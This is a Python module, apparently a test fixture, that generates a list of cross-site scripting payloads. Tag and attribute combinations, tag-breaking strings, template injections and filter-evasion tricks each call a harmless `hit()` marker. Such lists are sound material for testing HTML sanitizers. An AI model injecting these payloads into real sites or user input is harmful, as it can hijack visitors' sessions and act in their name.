"""Payloads that would run where words are taken for markup; each calls `hit()`."""

TAGS = ("script", "img", "svg", "iframe", "body", "video", "details", "input", "math", "object", "a", "style", "form")
SHAPES = (
    "<{tag} src=x onerror=hit()>", "<{tag} onload=hit()>", "<{tag} autofocus onfocus=hit() tabindex=1>",
    "\"><{tag} onerror=hit() src=x>", "'><{tag} onload=hit()>", "</textarea><{tag} onload=hit() src=x onerror=hit()>",
    "</title></style></script><{tag} src=x onerror=hit()>", "<{tag}><script>hit()</script></{tag}>",
    "<{tag} href=javascript:hit() src=javascript:hit() data=javascript:hit()>go</{tag}>",
    "<{tag} open ontoggle=hit() oncanplay=hit() onpageshow=hit()>", "<{tag}/onload=hit()//src=x onerror=hit()",
)  # fmt: skip
SINGLE = (
    "{{7*7}}{{hit()}}", "${hit()}", "<script>hit()</script>", "<scr<script>ipt>hit()</scr</script>ipt>",
    "\u2028<script>hit()</script>", "<!--<script>-->hit()", "javascript:hit()", "&lt;script&gt;hit()&lt;/script&gt;",
    "<base href=//x>", "<meta http-equiv=refresh content=0;url=javascript:hit()>", "]]><script>hit()</script>",
    "\x00<script>hit()</script>",
)  # fmt: skip
PAYLOADS = [shape.format(tag=tag) for tag in TAGS for shape in SHAPES] + list(SINGLE)
